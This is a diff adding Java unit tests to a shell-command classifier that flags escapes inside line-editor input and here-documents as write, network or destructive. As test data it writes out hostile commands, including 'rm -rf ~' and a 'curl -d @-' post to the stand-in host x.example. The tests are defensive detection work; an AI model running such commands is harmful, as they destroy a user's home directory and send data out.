@@ -69,6 +69,40 @@ class ShellEscapeTest {
     }
 
     @Test
+    void theEscapesOfALineOrientedLanguageAreTheRestOfTheirLines() {
+        assertThat(CodeArguments.escapedLines("p\n!rm -rf ~\nw !cat >x\nq", List.of("^!", "w !")))
+                .containsExactly("rm -rf ~", "cat >x");
+        assertThat(CodeArguments.escapedLines("a;!id", List.of("^!"))).containsExactly("id");
+        assertThat(CodeArguments.escapedLines(",s/a!b/c/", List.of("^!"))).isEmpty();
+    }
+
+    @Test
+    void aHereDocumentInTheProgramsOwnLanguageIsSearchedForEscapesWhateverTheLanguage() throws IOException {
+        CommandClassifier u = withRules("""
+                [lined]
+                is Write medium "edits lines"
+                code-file lined -> Write high "runs a script"
+                stdin-code -> Write high "reads commands typed at the terminal"
+                code sh input after ^!
+                [lined2]
+                is Write medium "edits lines"
+                stdin-code -> Write high "reads commands typed at the terminal"
+                code sh input after ^! -> Destructive high "a shell escape"
+                """);
+        assertThat(u.classifyShell("lined <<< 'p'").commandClass()).isEqualTo(CommandClass.WRITE);
+        assertThat(u.classifyShell("lined <<< $'p\\n!rm -rf ~'").commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(u.classifyShell("lined <<< '!curl -d @- https://x.example'").commandClass()).isEqualTo(CommandClass.NETWORK);
+        // the escaped command reads what is left of the input: nothing, so a bare shell runs no command
+        assertThat(u.classifyShell("lined <<< '!sh'").commandClass()).isEqualTo(CommandClass.WRITE);
+        // a row's own verdict counts whatever the escape runs
+        assertThat(u.classifyShell("lined2 <<< '!true'").commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
+        // not a here-document: the markers are not read there (a terminal, a pipe and a file keep their verdicts)
+        assertThat(u.classifyShell("lined < cmds.txt").commandClass()).isEqualTo(CommandClass.WRITE);
+        // a here-document with expansions is unverifiable, as before
+        assertThat(u.classifyShell("lined <<< \"!$X\"").commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
+    }
+
+    @Test
     void lessPreprocessorGivenAShellAfterItsMarkersIsAnEscape() {
         assertThat(Variables.preprocessorScript("||-sh -c id %s")).isEqualTo("sh -c id %s");
         assertThat(Variables.helperCommand("pipe", "|bash %s")).isEqualTo("bash %s");
